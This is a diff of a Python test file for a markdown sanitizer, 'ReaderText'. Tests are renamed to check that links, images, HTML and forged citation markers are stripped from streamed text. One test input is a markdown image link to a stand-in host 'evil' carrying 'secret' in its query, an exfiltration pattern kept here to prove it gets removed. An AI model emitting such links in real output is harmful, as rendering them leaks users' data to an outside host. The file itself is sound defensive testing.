@@ -33,7 +33,7 @@ PARTS = st.sampled_from(_LINKS + _BRACKETS + _PROOFS + _BLOCKS + _WORDS)
 NOTE = "(Source: m.pdf, S. 3)[1]"
 
 
-def shown(text: str, cuts: list[int] | None = None) -> str:
+def to_reader_text(text: str, cuts: list[int] | None = None) -> str:
     reader, parts, position = ReaderText(), [], 0
     for cut in [*sorted(min(cut, len(text)) for cut in cuts or []), len(text)]:
         parts.append(reader.feed(text[position:cut]))
@@ -42,7 +42,7 @@ def shown(text: str, cuts: list[int] | None = None) -> str:
 
 
 @pytest.mark.parametrize(
-    ("written", "read"),
+    ("text", "read"),
     [
         ("A ![x](https://evil/?q=secret) b", "A x b"),
         ('See [the page](https://evil/a_(b) "t"), now', "See the page, now"),
@@ -72,13 +72,13 @@ def shown(text: str, cuts: list[int] | None = None) -> str:
         ("**x** *y* _z_ ~~w~~ 10:30 a/b C:/x", "**x** *y* _z_ ~~w~~ 10:30 a/b C:/x"),
     ],
 )
-def test_signs_that_load_link_or_forge_are_taken_out(written: str, read: str) -> None:
-    assert shown(written) == read
-    assert shown(written, list(range(len(written)))) == read
+def test_signs_that_load_link_or_forge_are_taken_out(text: str, read: str) -> None:
+    assert to_reader_text(text) == read
+    assert to_reader_text(text, list(range(len(text)))) == read
 
 
 @pytest.mark.parametrize(
-    ("written", "read"),
+    ("text", "read"),
     [
         ("a ` b\n`[x](u)`", "a ` b\n`x`"),
         ("a ` b\n\n`[x](u)`", "a ` b\n\n`[x](u)`"),
@@ -96,13 +96,13 @@ def test_signs_that_load_link_or_forge_are_taken_out(written: str, read: str) ->
         ("\t- ```\n   ```\n```\n[x](u)\n```", "\t- ```\n   ```\n```\nx\n```"),
     ],
 )
-def test_only_code_of_every_reader_keeps_its_signs(written: str, read: str) -> None:
-    assert shown(written) == read
-    assert shown(written, list(range(len(written)))) == read
+def test_only_code_of_every_reader_keeps_its_signs(text: str, read: str) -> None:
+    assert to_reader_text(text) == read
+    assert to_reader_text(text, list(range(len(text)))) == read
 
 
 @pytest.mark.parametrize(
-    ("written", "read"),
+    ("text", "read"),
     [
         ("at 10:30", "at 10:30"),
         ("http://", "http: //"),
@@ -114,8 +114,8 @@ def test_only_code_of_every_reader_keeps_its_signs(written: str, read: str) -> N
         ("a `b", "a "),
     ],
 )
-def test_text_is_shown_as_soon_as_nothing_can_change_it(written: str, read: str) -> None:
-    assert ReaderText().feed(written) == read
+def test_text_is_shown_as_soon_as_nothing_can_change_it(text: str, read: str) -> None:
+    assert ReaderText().feed(text) == read
 
 
 @pytest.mark.parametrize(
@@ -134,7 +134,7 @@ def test_an_address_that_begins_in_our_text_is_broken() -> None:
 
 @given(st.lists(PARTS, max_size=25).map("".join), st.lists(st.integers(0, 150), max_size=20))
 def test_cuts_anywhere_change_nothing(text: str, cuts: list[int]) -> None:
-    assert shown(text, cuts) == shown(text)
+    assert to_reader_text(text, cuts) == to_reader_text(text)
 
 
 @pytest.mark.parametrize(
@@ -151,13 +151,13 @@ def test_cuts_anywhere_change_nothing(text: str, cuts: list[int]) -> None:
     ],
 )
 def test_a_removed_target_joins_nothing(text: str, expected: str) -> None:
-    assert shown(text) == expected
+    assert to_reader_text(text) == expected
     assert live_tokens(expected) == []
 
 
 @given(st.lists(PARTS, max_size=25).map("".join))
 def test_no_reader_of_markdown_sees_a_link_a_picture_or_html(text: str) -> None:
-    assert live_tokens(shown(text)) == []
+    assert live_tokens(to_reader_text(text)) == []
 
 
 @given(st.lists(st.tuples(st.lists(PARTS, max_size=8).map("".join), st.booleans()), max_size=5))
@@ -169,14 +169,14 @@ def test_nor_with_our_proofs_between(parts: list[tuple[str, bool]]) -> None:
 
 @given(st.lists(PARTS.filter(lambda part: "`" not in part and "~" not in part), max_size=25).map("".join))
 def test_outside_code_nothing_looks_like_a_proof(text: str) -> None:
-    assert not re.search(r"\[\s*\d{1,3}\s*\]|\(\s*Source\s*:", shown(text))
+    assert not re.search(r"\[\s*\d{1,3}\s*\]|\(\s*Source\s*:", to_reader_text(text))
 
 
 @given(st.text(alphabet="[](!`~x\n", max_size=40))
 def test_what_is_shown_of_the_start_stays(text: str) -> None:
     reader = ReaderText()
     parts = [reader.feed(character) for character in text]
-    assert shown(text).startswith("".join(parts))
+    assert to_reader_text(text).startswith("".join(parts))
 
 
 def test_no_more_is_held_back_than_a_link_may_be_long() -> None:
@@ -191,7 +191,7 @@ def test_no_more_is_held_back_than_a_link_may_be_long() -> None:
 )
 def test_long_rubbish_takes_no_quadratic_time(text: str) -> None:
     started = time.process_time()
-    shown(text)
+    to_reader_text(text)
     assert time.process_time() - started < 10  # a guard against hanging
 
 
